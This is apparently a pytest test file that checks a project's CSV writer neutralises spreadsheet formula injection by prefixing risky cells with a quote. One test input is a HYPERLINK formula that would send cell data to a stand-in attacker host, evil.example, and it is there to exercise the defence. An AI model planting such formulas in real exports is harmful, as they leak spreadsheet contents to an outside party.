"""Every CSV Opspor writes is safe to open in a spreadsheet: no cell starts a formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from course.spreadsheet_csv import FORMULA_START, SpreadsheetWriter, neutralised

PROJECT = Path(__file__).resolve().parent.parent


@pytest.mark.parametrize("value", ['=HYPERLINK("https://evil.example/?"&A1;"klik")', "+45 12 34 56 78", "-Anne",
                                   "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1"])
def test_a_cell_that_would_start_a_formula_is_read_back_as_text(value: str) -> None:
    buffer = io.StringIO(newline="")
    SpreadsheetWriter(buffer, delimiter=";").writerow(["20260301-001-ABCD", value, 4.5])
    [row] = list(csv.reader(io.StringIO(buffer.getvalue(), newline=""), delimiter=";"))
    assert row == ["20260301-001-ABCD", "'" + value, "4.5"]
    assert not row[1].lstrip(" ").startswith(FORMULA_START)


@pytest.mark.parametrize("value", ["Åse Øberg-Lærkesen", "Anne-Grethe", "x=1", "0,25", "", None, 12])
def test_ordinary_cells_are_unchanged(value: object) -> None:
    assert neutralised(value) == ("" if value is None else str(value))


def test_no_module_writes_csv_past_the_spreadsheet_writer() -> None:
    """The one helper is used everywhere: a new csv.writer elsewhere fails here."""
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\s*\(")
    offenders = [str(path.relative_to(PROJECT)) for path in [*(PROJECT / "course").rglob("*.py"), PROJECT / "build.py"]
                 if path.name != "spreadsheet_csv.py" and writers.search(path.read_text("utf-8"))]
    assert offenders == []
